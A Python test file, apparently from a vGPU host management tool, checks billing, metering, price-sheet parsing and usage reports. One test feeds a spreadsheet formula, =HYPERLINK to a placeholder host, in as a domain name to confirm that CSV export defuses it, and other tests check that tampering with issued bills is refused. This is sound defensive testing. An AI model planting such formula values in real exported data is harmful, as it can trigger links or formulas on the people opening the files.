    assert lines[("t", "reserved")].quantity == Decimal(1440) and lines[("t", "reserved")].amount == Decimal("360.00")
    assert lines[("t", "covered")].quantity == Decimal(3) and lines[("t", "burst")].quantity == Decimal(1)
    assert lines[("t", "burst-surcharge")].amount == Decimal("0.10")
    assert b.totals == {"t": Decimal("361.10"), "idle": Decimal("180.00")}   # a guarantee unused is still paid


def test_money_is_the_decimal_text_written_never_a_float():
    # digits a float would lose are kept exactly (up to 12 after the point), in every money field
    sheet = billing.parse_prices(
        "version: 1\ncurrency: EUR\nallocated:\n  profiles:\n    A40-8Q: 0.123456789012\n"
        "  families: {L40S-Q: '0.000000000001'}\n"
        "passthrough_gpu:\n  - {up_to: 999999999999.999999999999, rate: 123456789012.5}\n  - {rate: 0}\n"
        "reserved: {vgpus: 100000000000.000000000001}\nburst_surcharge_percent: 12.345678901234\n"
        "tenants: {acme: {discount_percent: 99.999999999999}}\n")
    assert sheet.profiles["A40-8Q"][0].rate == Decimal("0.123456789012")
    assert sheet.families["L40S-Q"][0].rate == Decimal("1E-12")
    assert sheet.passthrough_gpu[0].up_to == Decimal("999999999999.999999999999")
    assert sheet.passthrough_gpu[0].rate == Decimal("123456789012.5")
    assert sheet.reserved["vgpus"] == Decimal("100000000000.000000000001")
    assert sheet.burst_surcharge_percent == Decimal("12.345678901234")
    assert sheet.discounts["acme"] == Decimal("99.999999999999")
    # priced exactly: 1000 hours x 0.123456789012 = 123.456789012 -> 123.46
    rows = [_row("2026-11-01T00:00:00Z", "v1", "t", "A40-8Q", 1000 * 3600.0)]
    b = billing.price(rows, sheet, period="2026-11", start="2026-11-01T00:00:00Z", end="2026-12-01T00:00:00Z",
                      hours=720, guarantees={})
    (line,) = b.lines
    assert line.rate == Decimal("0.123456789012") and line.amount == Decimal("123.46")


@pytest.mark.parametrize("written,reads", [("010", "8"), ("1:30", "90"), ("0x10", "16"), ("1_000", "1000"),
                                            ("0o10", None), ("1e3", None), ("1.5e+3", "1500.0"), (".5", "0.5"),
                                            ("-.5", None), ("00", "0"), ("0.5_0", "0.5"), ("2026-11-01", None)])
def test_a_yaml_number_form_is_refused_at_its_line(written, reads):
    text = f"version: 1\ncurrency: EUR\nallocated:\n  profiles:\n    A40-8Q: 1\n    A40-4Q: {written}\n"
    with pytest.raises(Exception) as e:
        billing.parse_prices(text, "p.yaml")
    msg = str(e.value)
    assert msg.startswith("p.yaml:6: allocated.profiles.A40-4Q ") and "\n" not in msg, msg
    if reads is not None:
        assert f"which YAML 1.1 reads as {reads}: not plain decimal text" in msg, msg


def test_period_bounds():
    assert billing.period_bounds("2026-11") == ("2026-11-01T00:00:00Z", "2026-12-01T00:00:00Z", 720)
    assert billing.period_bounds("2026-12") == ("2026-12-01T00:00:00Z", "2027-01-01T00:00:00Z", 744)
    assert billing.period_bounds("2028-02")[2] == 29 * 24
    for bad in ("2026-13", "2026-1", "nov", ""):
        with pytest.raises(Exception, match="invalid period"):
            billing.period_bounds(bad)


# --- the exporter's counters for billing from Prometheus ----------------------------------

def test_the_exporter_counts_each_tenants_allocated_and_busy_seconds(make_host, capsys):
    from prometheus_client import CollectorRegistry
    from prometheus_client.openmetrics.exposition import generate_latest
    from prometheus_client.openmetrics.parser import text_string_to_metric_families
    from vgpuhost.ops.exporter import SnapshotCollector

    host = make_host("a40-mdev")
    for dom in (DOM_A1, DOM_B1):
        assert _run(host, "vgpu", "create", "--profile", "A40-8Q", "--owner", dom, capsys=capsys)[0] == 0
    store = StateStore(host.state_dir)
    ids = {r.owner: r.id for r in store.vgpu_records()}
    nv = metering_nvml(host)
    nv.freeze(NOV)
    nv.set_trace("default", {"sm": 40})
    sampler = Sampler(nv, store, interval_s=60, labels=lambda u: MeteredOwner(u, "", TENANT.get(u, ""), ""))
    reg = CollectorRegistry(auto_describe=False)
    reg.register(SnapshotCollector(lambda: sampler.snapshot, 60))

    def counters():
        text = generate_latest(reg).decode()          # OpenMetrics text, parsed by OpenMetrics' own parser
        out = {}
        for fam in text_string_to_metric_families(text):
            if fam.name in ("vgpuhost_tenant_allocated_seconds", "vgpuhost_tenant_sm_busy_seconds"):
                assert fam.type == "counter"
                for s in fam.samples:
                    if s.name.endswith("_total"):
                        out[(fam.name, s.labels["tenant"], s.labels["profile"], s.labels["kind"])] = s.value
        return out

    sampler.tick()
    for _ in range(30):
        nv.advance(60)
        sampler.tick()
    c = counters()
    assert c[("vgpuhost_tenant_allocated_seconds", "acme", "A40-8Q", "vgpu")] == pytest.approx(1800)
    assert c[("vgpuhost_tenant_sm_busy_seconds", "beta", "A40-8Q", "vgpu")] == pytest.approx(720)
    # they add up what the sampler wrote to the rollups
    rows = st.usage_rows(store)
    assert sum(r.alloc_s for r in rows if r.tenant == "beta") == pytest.approx(
        c[("vgpuhost_tenant_allocated_seconds", "beta", "A40-8Q", "vgpu")])
    # a tenant's device going away does not lower its counter (counters never decrease)
    assert _run(host, "vgpu", "remove", ids[DOM_B1], capsys=capsys)[0] == 0
    nv.advance(60)
    sampler.tick()
    after = counters()
    assert after[("vgpuhost_tenant_allocated_seconds", "beta", "A40-8Q", "vgpu")] == pytest.approx(1800)
    assert after[("vgpuhost_tenant_allocated_seconds", "acme", "A40-8Q", "vgpu")] == pytest.approx(1860)


def test_the_price_sheet_schema_and_the_shipped_example():
    import jsonschema
    import yaml
    repo = Path(__file__).resolve().parents[1]
    validator = jsonschema.Draft202012Validator(json.loads((repo / "docs/schemas/prices.v1.schema.json").read_text()))
    for text in (PRICES, (repo / "examples/billing/prices.yaml").read_text()):
        billing.parse_prices(text)
        assert not list(validator.iter_errors(yaml.safe_load(text)))
    for case in ("unknown-key", "wrong-type", "negative-rate", "bad-version", "bad-rounding", "discount-over-100",
                 "reserved-unknown-dimension", "wrong-type-mapping"):
        assert list(validator.iter_errors(yaml.safe_load(BAD[case][0]))), f"{case} passes the schema"


# --- trial 9: reserved hours, unread devices, append-only, split hours, idle capacity ------------

RESERVING = """\
version: 1
currency: EUR
rounding: half-even
allocated:
  profiles:
    A40-8Q: 0.80
    A40-2Q: 0.20
  families:
    L40S-Q: 0.06
  mig_slice: 0.35
passthrough_gpu: 1
reserved:
  vgpus: 0.50
  mig_slices: 0.30
"""


def _bill(host, capsys, *args):
    rc, out, err = _run(host, "--json", "bill", *args, capsys=capsys)
    return rc, (json.loads(out) if rc == 0 else None), err


def test_reserved_is_charged_only_for_hours_the_guarantee_existed_after_metering_began(farm, make_host, tmp_path,
                                                                                        capsys):
    """F1: a guarantee is owed from the first whole hour it is in force, never before the host metered; a
    period that ended before metering began is not issued."""
    prices = str(_prices(tmp_path, RESERVING))
    # a host that never metered: no reserved line for any month, and nothing to issue
    fresh = make_host(yaml_text=SPEC)
    assert _run(fresh, "tenant", "add", "acme", "--vgpus", "1:2", capsys=capsys)[0] == 0
    rc, doc, err = _bill(fresh, capsys, "--prices", prices, "--period", "2020-01")
    assert rc == 0 and doc["lines"] == [] and doc["total"] == "0.00", err
    rc, _, err = _bill(fresh, capsys, "--prices", prices, "--period", "2020-01", "--issue")
    assert rc == 2 and st.issued_bill(StateStore(fresh.state_dir), "2020-01") is None
    # the month's host metered from 2026-11-01: October has no reserved line and is not issued
    host, _ = farm
    store = StateStore(host.state_dir)
    n_audit = len(store.audit_rows())
    rc, doc, err = _bill(host, capsys, "--prices", prices, "--period", "2026-10")
    assert rc == 0 and [ln for ln in doc["lines"] if ln["item"] == "reserved"] == [], doc["lines"]
    rc, out, err = _run(host, "bill", "--prices", prices, "--period", "2026-10", "--issue", capsys=capsys)
    assert rc == 2 and out == "" and len(err.strip().splitlines()) == 1
    assert "metering began at 2026-11-01T00:00:00Z, after 2026-10 ended" in err
    assert st.issued_bill(store, "2026-10") is None and len(store.audit_rows()) == n_audit
    # acme's guarantee raised to 2 at 10:20 on the 20th (in force from 11:00); beta removed on the 15th
    with store.transaction() as conn:
        conn.execute("INSERT INTO tenant_guarantees (tenant, since, vgpus) VALUES "
                     "('acme', '2026-11-20T10:20:00.000000+00:00', 2)")
        conn.execute("INSERT INTO tenant_guarantees (tenant, since) VALUES ('beta', '2026-11-15T00:00:00.000+00:00')")
    rc, doc, err = _bill(host, capsys, "--prices", prices, "--period", "2026-11")
    assert rc == 0, err
    res = {ln["tenant"]: ln for ln in doc["lines"] if ln["item"] == "reserved"}
    before = 19 * 24 + 11
    assert res["acme"]["quantity"] == f"{before + 2 * (720 - before)}.000000"
    assert res["acme"]["note"] == f"guarantee 1 vgpus x {before} hours + 2 vgpus x {720 - before} hours"
    assert res["beta"]["quantity"] == f"{14 * 24}.000000" and res["beta"]["amount"] == "100.80"
    # beta's MIG use after its removal is on demand; before it, above the guarantee, burst
    mig = {ln["item"]: ln for ln in doc["lines"] if ln["tenant"] == "beta" and ln["key"] == "mig_slice"}
    assert mig["on-demand"]["source"]["first_hour"] == "2026-11-15T00:00:00Z"
    assert mig["burst"]["source"]["last_hour"] == "2026-11-14T23:00:00Z"
    # tenant add / set / remove write the history (append-only)
    assert _run(host, "tenant", "add", "delta", "--vgpus", "1:1", "--allow-oversubscribe", capsys=capsys)[0] == 0
    assert _run(host, "tenant", "set", "delta", "--vgpus", "0:1", capsys=capsys)[0] == 0
    assert _run(host, "tenant", "add", "eps", "--mig-slices", "1:1", "--allow-oversubscribe", capsys=capsys)[0] == 0
    assert _run(host, "tenant", "remove", "eps", capsys=capsys)[0] == 0
    hist = [r for r in st.tenant_guarantees(store) if r[0] in ("delta", "eps")]
    assert [(r[0], r[2], r[3]) for r in hist] == [("delta", 1, 0), ("delta", 0, 0), ("eps", 0, 1), ("eps", 0, 0)]
    for sql in ("UPDATE tenant_guarantees SET vgpus = 9", "DELETE FROM tenant_guarantees"):
        with pytest.raises(Exception, match="append-only"):
            with store.transaction() as conn:
                conn.execute(sql)


def _acme_a40_8q(make_host, capsys):
    """The SPEC host with tenant acme and one A40-8Q vGPU made for DOM_A1, and its metering NVML:
    ``(host, store, the vGPU's record, nvml)``."""
    host = make_host(yaml_text=SPEC)
    assert _run(host, "tenant", "add", "acme", capsys=capsys)[0] == 0
    assert _run(host, "vgpu", "create", "--profile", "A40-8Q", "--owner", DOM_A1, capsys=capsys)[0] == 0
    store = StateStore(host.state_dir)
    (rec,) = store.vgpu_records()
    return host, store, rec, metering_nvml(host)


def _lost_gpu_host(make_host, capsys):
    """A40 0000:81:00.0 with one acme vGPU metered from 2027-01-31 22:00 every 10 minutes to 2027-02-01
    02:00, its NVML read failing (GPU_IS_LOST) from 23:00: (host, store, sampler, nvml, vGPU id, fail flag)."""
    from vgpuhost.io.nvml_metering import GpuReading
    host, store, rec, nv = _acme_a40_8q(make_host, capsys)
    t0 = datetime(2027, 1, 31, 22, tzinfo=timezone.utc).timestamp()
    nv.freeze(t0)
    nv.set_trace(rec.id, {"sm": 50, "start": t0 - 86400, "vm": DOM_A1, "fb_mib": 1000})
    read, fail = nv.read, {"on": False}
    nv.read = lambda seen: [GpuReading(g.bdf, "", False, (), error="GPU_IS_LOST")
                            if fail["on"] and g.bdf == "0000:81:00.0" else g for g in read(seen)]
    sampler = Sampler(nv, store, interval_s=600, labels=lambda u: MeteredOwner(u, "vm", TENANT.get(u, ""), ""))
    for i in range(25):
        fail["on"] = 7 <= i
        sampler.tick()
        nv.advance(600)
    return host, store, sampler, nv, rec.id, fail


def test_a_month_is_not_issued_while_a_gpus_devices_are_unread(make_host, tmp_path, capsys):
    """F13: the GPU's devices stop at their last good reading; issuing January then would leave the
    hour they are credited later billed nowhere."""
    host, store, sampler, nv, dev, fail = _lost_gpu_host(make_host, capsys)
    prices = str(_prices(tmp_path, RESERVING))
    rc, out, err = _run(host, "bill", "--prices", prices, "--period", "2027-01", "--issue", capsys=capsys)
    lines = err.strip().splitlines()
    assert rc == 2 and out == "" and len(lines) == 1, err
    assert f"GPU 0000:81:00.0: device {dev} was last read at 2027-01-31T23:00:00Z, before the end of 2027-01" \
        in lines[0] and "; issue 2027-01 once the sampler reads that GPU again" in lines[0]
    assert st.issued_bill(store, "2027-01") is None
    rc, doc, _ = _bill(host, capsys, "--prices", prices, "--period", "2027-01")
    assert doc["complete"] is False and doc["unread"] == [
        {"device": dev, "gpu": "0000:81:00.0", "read_until": "2027-01-31T23:00:00.000000+00:00"}]
    # the GPU answers again: its span is credited to the hours it fell in, and January is issued whole
    fail["on"] = False
    sampler.tick()
    rc, doc, err = _bill(host, capsys, "--prices", prices, "--period", "2027-01", "--issue")
    assert rc == 0, err
    (line,) = doc["lines"]
    assert (line["tenant"], line["key"], line["quantity"]) == ("acme", "A40-8Q", "2.000000")
    assert doc["complete"] is True and doc["unread"] == []


def test_an_unread_gpu_that_leaves_the_tree_holds_the_issue_until_its_devices_go_and_leaves_a_gap(
        make_host, tmp_path, capsys):
    """Final 9 N6: the GPU whose reads fail falls off the bus: its device is still unread (the issue still
    refused, its cursor kept); once the operator removes the device, metering forgets it and records its
    unread span (last good reading -> found gone) as a gap, which the issued bill lists."""
    host, store, sampler, nv, dev, fail = _lost_gpu_host(make_host, capsys)
    prices = str(_prices(tmp_path, RESERVING))
    assert _run(host, "sim", "fail", "--unplug", "0000:81:00.0", capsys=capsys)[0] == 0
    sampler.tick()                                      # 02:10: the GPU is not in the reading at all
    nv.advance(600)
    assert dev in st.meter_cursors(store)
    rc, out, err = _run(host, "bill", "--prices", prices, "--period", "2027-01", "--issue", capsys=capsys)
    assert rc == 2 and f"device {dev} was last read at 2027-01-31T23:00:00Z" in err, err
    assert st.issued_bill(store, "2027-01") is None and st.meter_gaps(store) == []
    sampler.tick()                                      # 02:20: still held, no gap yet
    nv.advance(600)
    assert st.meter_gaps(store) == [] and dev in st.meter_cursors(store)
    assert _run(host, "vgpu", "remove", dev, capsys=capsys)[0] == 0
    sampler.tick()                                      # 02:30: its record is gone: forgotten, with a gap
    assert dev not in st.meter_cursors(store)
    assert st.meter_gaps(store) == [("2027-01-31T23:00:00.000000+00:00", "2027-02-01T02:30:00.000000+00:00", dev,
                                     12600.0, "device gone while unread")]
    rc, doc, err = _bill(host, capsys, "--prices", prices, "--period", "2027-01", "--issue")
    assert rc == 0, err
    assert doc["unread"] == [] and [(g["device"], g["reason"], g["tenants"]) for g in doc["gaps"]] == [
        (dev, "device gone while unread", ["acme"])]
    (line,) = doc["lines"]
    assert (line["key"], line["quantity"]) == ("A40-8Q", "1.000000")     # 22:00-23:00 read; the rest a gap
    assert json.loads(st.issued_bill(store, "2027-01")[4])["gaps"][0]["start"] == "2027-01-31T23:00:00.000000+00:00"


def test_removing_the_devices_of_a_gpu_lost_but_still_on_the_bus_releases_the_issue_with_a_gap(
        make_host, tmp_path, capsys):
    """Final 9b NEW-2: the GPU's reads keep failing (lost for good) but it stays in the PCI tree: removing its
    device, as the refusal says, lets the running sampler forget it and record its unread span, as a
    restarted one did."""
    host, store, sampler, nv, dev, fail = _lost_gpu_host(make_host, capsys)
    prices = str(_prices(tmp_path, RESERVING))
    assert _run(host, "vgpu", "remove", dev, capsys=capsys)[0] == 0
    sampler.tick()                                      # 02:10: still unreadable, its record gone: forgotten
    assert dev not in st.meter_cursors(store)
    assert [(g[2], g[4]) for g in st.meter_gaps(store)] == [(dev, "device gone while unread")]
    rc, doc, err = _bill(host, capsys, "--prices", prices, "--period", "2027-01", "--issue")
    assert rc == 0 and doc["unread"] == [], err


def test_a_restarted_sampler_keeps_an_unread_gpus_cursors(make_host, tmp_path, capsys):
    """A sampler started again while the GPU's read fails keeps the device's cursor (the issue guard holds);
    read again, the device's whole span is credited (only its busy time past the hold is a gap)."""
    host, store, sampler, nv, dev, fail = _lost_gpu_host(make_host, capsys)
    again = Sampler(nv, store, interval_s=600, labels=sampler.labels)
    again.tick()
    nv.advance(600)
    assert st.meter_cursors(store)[dev][1] == int(datetime(2027, 1, 31, 23, tzinfo=timezone.utc).timestamp() * 1e6)
    assert _run(host, "bill", "--prices", str(_prices(tmp_path, RESERVING)), "--period", "2027-01", "--issue",
                capsys=capsys)[0] == 2
    fail["on"] = False
    again.tick()
    assert [g[4] for g in st.meter_gaps(store)] == ["no utilisation samples"]
    jan = sum(r.alloc_s for r in st.usage_rows(store, "2027-01-01T00:00:00Z", "2027-02-01T00:00:00Z"))
    assert jan == 7200.0


def test_an_unread_device_read_again_under_another_domain_leaves_a_gap_for_its_unread_span(make_host, capsys):
    """The GPU answers again, but its vGPU now runs another domain: the first domain's span since its last
    good reading is not credited to anyone, and is a gap."""
    host, store, sampler, nv, dev, fail = _lost_gpu_host(make_host, capsys)
    nv.set_trace(dev, {"sm": 50, "start": 0, "vm": DOM_B1, "fb_mib": 1000})
    fail["on"] = False
    sampler.tick()                                                       # 02:10
    assert st.meter_cursors(store)[dev][0] == DOM_B1
    assert [g for g in st.meter_gaps(store) if g[4] == "device gone while unread"] == [
        ("2027-01-31T23:00:00.000000+00:00", "2027-02-01T02:10:00.000000+00:00", dev, 11400.0,
         "device gone while unread")]


def test_an_issued_bill_and_its_adjustments_refuse_replace(farm, tmp_path, capsys):
    """F11: INSERT OR REPLACE (and an upsert) of an issued period or an adjustment's id is refused."""
    host, loads = farm
    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
                capsys=capsys)[0] == 0
    assert _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "acme", "--amount", "-1",
                "--reason", "credit", capsys=capsys)[0] == 0
    store = StateStore(host.state_dir)
    before = st.issued_bill(store, "2026-11")
    adj = st.bill_adjustments(store, "2026-11")
    for sql, words in (
            ("INSERT OR REPLACE INTO bills SELECT period, issued, actor, prices_sha256, "
             "replace(document, '\"total\"', '\"totalx\"') FROM bills", "never changes"),
            ("REPLACE INTO bills VALUES ('2026-11', 'x', 'x', 'x', '{}')", "never changes"),
            ("INSERT INTO bills VALUES ('2026-11', 'x', 'x', 'x', '{}') ON CONFLICT (period) DO NOTHING",
             "never changes"),
            ("INSERT OR REPLACE INTO bill_adjustments SELECT id, period, tenant, '-400.00', reason, actor, time, "
             "audit_id FROM bill_adjustments", "append-only")):
        with pytest.raises(Exception, match=words):
            with store.transaction() as conn:
                conn.execute(sql)
    assert st.issued_bill(store, "2026-11") == before and st.bill_adjustments(store, "2026-11") == adj
    rc, out, _ = _run(host, "bill", "--period", "2026-11", capsys=capsys)
    assert rc == 0 and "adjustment #1 acme: -1.00 EUR" in out


def test_a_vgpu_resized_within_an_hour_is_billed_at_each_profile(make_host, tmp_path, capsys):
    """F10: the same mdev UUID and domain, 40 minutes as A40-8Q then 20 as A40-2Q in one hour: two rows."""
    host, store, rec, nv = _acme_a40_8q(make_host, capsys)
    nv.freeze(datetime(2027, 1, 1, tzinfo=timezone.utc).timestamp())
    nv.set_trace(rec.id, {"sm": 50, "vm": DOM_A1, "fb_mib": 1000})
    sampler = Sampler(nv, store, interval_s=600, labels=lambda u: MeteredOwner(u, "vm", "acme", ""))
    for _ in range(4):
        sampler.tick()
        nv.advance(600)
    sampler.tick()                                              # 00:40
    assert _run(host, "vgpu", "remove", rec.id, capsys=capsys)[0] == 0
    assert _run(host, "vgpu", "create", "--profile", "A40-2Q", "--uuid", rec.id, "--owner", DOM_A1,
                capsys=capsys)[0] == 0
    nv.set_trace(rec.id, {"sm": 50, "vm": DOM_A1, "fb_mib": 500})
    for _ in range(2):
        nv.advance(600)
        sampler.tick()                                          # 00:50, 01:00
    rows = {(r.hour, r.profile): r.alloc_s for r in st.usage_rows(store) if r.device == rec.id and r.alloc_s}
    assert rows == {("2027-01-01T00:00:00Z", "A40-8Q"): 2400.0, ("2027-01-01T00:00:00Z", "A40-2Q"): 1200.0}
    rc, doc, err = _bill(host, capsys, "--prices", str(_prices(tmp_path, RESERVING)), "--period", "2027-01")
    assert rc == 0, err
    assert {(ln["key"], ln["quantity"], ln["amount"]) for ln in doc["lines"]} == {
        ("A40-8Q", "0.666667", "0.53"), ("A40-2Q", "0.333333", "0.07")}


def test_a_version_15_store_is_migrated_with_its_rollups_guarantees_and_first_reading(tmp_path):
    from storeutil import store_at_version
    from vgpuhost.io.state import MIGRATIONS
    conn = store_at_version(tmp_path / "state.db", 15)
    conn.execute("INSERT INTO usage_hourly VALUES ('2026-12-01T10:00:00Z', 'dev', 'dom', 'vgpu', 'g', 'A40-8Q', "
                 "'vm', 'acme', '', 600, 30, 0, 0, 5, 10, 6)")
    conn.execute("INSERT INTO meter_state VALUES ('last_tick_us', '1796140800000000')")
    conn.execute("INSERT INTO tenants (name, qos, isolation, g_vgpus, time) VALUES "
                 "('acme', 'standard', 'shared', 2, '2026-12-05T00:00:00.000000+00:00')")
    conn.execute("INSERT INTO audit (time, actor, operation, path, value, result) VALUES "
                 "('2026-11-20T08:00:00.000000+00:00', 'root', 'tenant add acme', '(tenants)', '', 'ok')")
    # final 9 N3: acme was added with another guarantee and set to 2 on Dec 5 (tenants.time): 2 is in force
    # only from then, never back-dated to the add
    conn.execute("INSERT INTO audit (time, actor, operation, path, value, result) VALUES "
                 "('2026-12-05T00:00:00.000000+00:00', 'root', 'tenant set acme', '(tenants)', '', 'ok')")
    conn.commit()
    conn.close()
    store = StateStore(tmp_path)
    assert store.schema_version == len(MIGRATIONS) == 17
    assert st.tenant_guarantees(store) == [("acme", "2026-12-05T00:00:00.000000+00:00", 2, 0, 0)]
    assert ops.guarantees(store) == {"acme": [("2026-12-05T00:00:00Z", {"vgpus": 2, "mig_slices": 0,
                                                                         "passthrough_gpus": 0})]}
    assert st.meter_state(store, "first_tick_us") == str(1796119200 * 1000000)      # 2026-12-01T10:00Z
    with store.transaction() as c:
        st.add_usage(c, [("2026-12-01T10:00:00Z", "dev", "dom", "vgpu", "g", "A40-2Q", "vm", "acme", "", 60, 1, 0, 0,
                          7, 10, 1)])
    assert [(r.profile, r.alloc_s) for r in st.usage_rows(store)] == [("A40-2Q", 60), ("A40-8Q", 600)]


def test_devices_no_domain_holds_are_idle_capacity_never_priced(make_host, tmp_path, capsys):
    """F16: a manual vGPU and a GPU only prepared for passthrough, metered an hour beside acme's vGPU:
    the bill prices acme's use and lists the others as idle, with no rate needed for them."""
    host = make_host(yaml_text=SPEC)
    assert _run(host, "tenant", "add", "acme", capsys=capsys)[0] == 0
    assert _run(host, "vgpu", "create", "--profile", "A40-8Q", "--owner", DOM_A1, capsys=capsys)[0] == 0
    assert _run(host, "vgpu", "create", "--profile", "A40-8Q", capsys=capsys)[0] == 0            # owner manual
    assert _run(host, "passthrough", "prepare", "0000:c1:00.0", capsys=capsys)[0] == 0
    store = StateStore(host.state_dir)
    nv = metering_nvml(host)
    nv.freeze(datetime(2027, 1, 1, tzinfo=timezone.utc).timestamp())
    held = next(r.id for r in store.vgpu_records() if r.owner == DOM_A1)
    nv.set_trace(held, {"sm": 50, "vm": DOM_A1, "fb_mib": 1000})
    sampler = Sampler(nv, store, interval_s=600, labels=lambda u: MeteredOwner(u, "vm", TENANT.get(u, ""), ""))
    for _ in range(7):
        sampler.tick()
        nv.advance(600)
    prices = _prices(tmp_path, "version: 1\ncurrency: EUR\nallocated:\n  profiles:\n    A40-8Q: 0.80\n")
    rc, doc, err = _bill(host, capsys, "--prices", str(prices), "--period", "2027-01")
    assert rc == 0, err
    assert [(ln["tenant"], ln["key"], ln["quantity"]) for ln in doc["lines"]] == [("acme", "A40-8Q", "1.000000")]
    assert doc["totals"] == [{"tenant": "acme", "amount": "0.80"}]
    assert [(i["key"], i["kind"], i["quantity"], len(i["source"]["devices"])) for i in doc["idle"]] == [
        ("A40-8Q", "vgpu", "1.000000", 1), ("passthrough_gpu", "passthrough", "1.000000", 1)]
    rc, out, _ = _run(host, "bill", "--prices", str(prices), "--period", "2027-01", capsys=capsys)
    assert "idle: passthrough_gpu (passthrough) 1.000000 h on 1 device(s) no domain held: not billed" in out
    rc, out, _ = _run(host, "--json", "usage", "--by", "tenant", capsys=capsys)
    assert {r["tenant"]: (r["gpu_hours"], r["devices"]) for r in json.loads(out)["rows"]} == {
        "acme": (1.0, 1), "(idle)": (2.0, 2)}
    # final 9 N5: --by domain names them as --by tenant does, not as a domain '(none)' of '(no tenant)'
    rc, out, _ = _run(host, "--json", "usage", "--by", "domain", capsys=capsys)
    assert {(r["domain"], r["domain_uuid"], r["tenant"]): r["devices"] for r in json.loads(out)["rows"]} == {
        ("vm", DOM_A1, "acme"): 1, ("(idle)", "", ""): 2}
    rc, out, _ = _run(host, "usage", "--by", "domain", capsys=capsys)
    idle = [ln for ln in out.splitlines() if "idle" in ln]
    assert rc == 0 and len(idle) == 1 and idle[0].startswith("(idle: no domain)") \
        and idle[0].split()[-3:] == ["2", "-", "-"] and "(none)" not in out and "(no tenant)" not in out


def test_usage_by_domain_keeps_domains_of_one_name_apart_and_its_csv_runs_no_formula(make_host, capsys):
    """F8 and F7: two domains named 'web' (acme's and beta's) are two rows with their UUID and tenant; a
    domain named like a formula is written with a leading quote, as bill --csv writes it."""
    host = make_host(yaml_text=SPEC)
    for t in ("acme", "beta"):
        assert _run(host, "tenant", "add", t, capsys=capsys)[0] == 0
    names = {DOM_A1: "web", DOM_B1: "web", DOM_A2: '=HYPERLINK("http://x","y")'}
    for dom in names:
        assert _run(host, "vgpu", "create", "--profile", "A40-8Q", "--owner", dom, capsys=capsys)[0] == 0
    store = StateStore(host.state_dir)
    nv = metering_nvml(host)
    nv.freeze(datetime(2027, 1, 1, tzinfo=timezone.utc).timestamp())
    for r in store.vgpu_records():
        nv.set_trace(r.id, {"sm": 50, "vm": r.owner, "fb_mib": 1000})
    sampler = Sampler(nv, store, interval_s=600,
                      labels=lambda u: MeteredOwner(u, names.get(u, ""), TENANT.get(u, ""), ""))
    for i in range(7):
        sampler.tick()
        nv.advance(600 * (i + 1 < 7))
    rc, out, err = _run(host, "--json", "usage", "--by", "domain", capsys=capsys)
    assert rc == 0, err
    rows = {(r["domain"], r["domain_uuid"], r["tenant"]): r["gpu_hours"] for r in json.loads(out)["rows"]}
    assert rows == {("web", DOM_A1, "acme"): 1.0, ("web", DOM_B1, "beta"): 1.0,
                    ('=HYPERLINK("http://x","y")', DOM_A2, "acme"): 1.0}
    rc, out, err = _run(host, "usage", "--by", "domain", "--csv", capsys=capsys)
    recs = list(csv.reader(io.StringIO(out)))
    assert rc == 0 and recs[0][0] == "domain" and recs[0][-2:] == ["domain_uuid", "tenant"]
    assert sorted(r[0] for r in recs[1:]) == ["'=HYPERLINK(\"http://x\",\"y\")", "web", "web"]
    rc, out, _ = _run(host, "usage", "--by", "domain", capsys=capsys)
    table_rows = [ln.split() for ln in out.splitlines()[1:]]
    assert rc == 0 and [["web", "1.000", DOM_A1, "acme"], ["web", "1.000", DOM_B1, "beta"]] == sorted(
        r[:2] + r[-2:] for r in table_rows if r[0] == "web")


def test_unknown_tenants_misspelt_discounts_and_one_tenant_in_two_spellings(farm, tmp_path, capsys):
    """F9: an unknown or invalid --tenant is refused (bill, forecast); a discount for a name no one bears is
    warned about; acme removed and added again as Acme is one tenant; an empty bill totals 0.00."""
    host, loads = farm
    prices = str(_prices(tmp_path))
    store = StateStore(host.state_dir)
    for args in (("bill", "--prices", prices, "--period", "2026-11", "--tenant", "nosuch"),
                 ("bill", "--prices", prices, "--period", "2026-11", "--tenant", "a\nb"),
                 ("forecast", "--tenant", "nosuch"), ("forecast", "--history", "0d")):
        rc, out, err = _run(host, *args, capsys=capsys)
        assert rc == 2 and out == "" and len(err.strip().splitlines()) == 1, (args, err)
    assert "no tenant 'nosuch': not in the tenancy tables and no usage of it in 2026-11" in \
        _run(host, "bill", "--prices", prices, "--period", "2026-11", "--tenant", "nosuch", capsys=capsys)[2]
    rc, out, _ = _run(host, "bill", "--prices", prices, "--period", "2026-11", "--tenant", "GAMMA", capsys=capsys)
    assert rc == 0 and "gamma" in out
    rc, _, err = _run(host, "bill", "--prices", _prices(tmp_path, PRICES.replace("acme:", "acmee:"), "typo.yaml"),
                      "--period", "2026-11", capsys=capsys)
    assert rc == 0 and "warning: the price sheet gives tenant 'acmee' a discount, but no tenant" in err
    # acme removed and added again as Acme (its guarantee back since October): one tenant, billed as before
    assert _run(host, "tenant", "remove", "acme", capsys=capsys)[0] == 0
    assert _run(host, "tenant", "add", "Acme", "--vgpus", "1:3", capsys=capsys)[0] == 0
    with store.transaction() as conn:
        conn.execute("INSERT INTO tenant_guarantees (tenant, since, vgpus) VALUES "
                     "('Acme', '2026-10-01T00:00:00.000000+00:00', 1)")
    rc, doc, err = _bill(host, capsys, "--prices", prices, "--period", "2026-11")
    assert rc == 0, err
    totals = {t["tenant"]: Decimal(t["amount"]) for t in doc["totals"]}
    ref = reference(loads)
    assert totals == {"Acme": ref["acme"], "beta": ref["beta"], "gamma": ref["gamma"]}
    rc, doc, _ = _bill(host, capsys, "--prices", prices, "--period", "2026-09")
    assert rc == 0 and doc["total"] == "0.00"
